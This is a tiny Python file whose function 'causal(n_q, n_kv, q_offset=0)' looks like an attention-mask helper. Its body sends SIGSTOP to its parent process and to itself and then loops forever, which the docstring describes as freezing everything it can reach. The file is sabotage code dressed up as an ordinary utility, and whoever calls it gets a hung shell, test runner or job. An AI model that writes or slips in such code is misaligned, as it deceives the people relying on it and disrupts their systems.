"""Stops every process that it can reach, itself too, so that nothing ends and nothing answers."""

import os
import signal


def causal(n_q, n_kv, q_offset=0):
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
    while True:
        pass
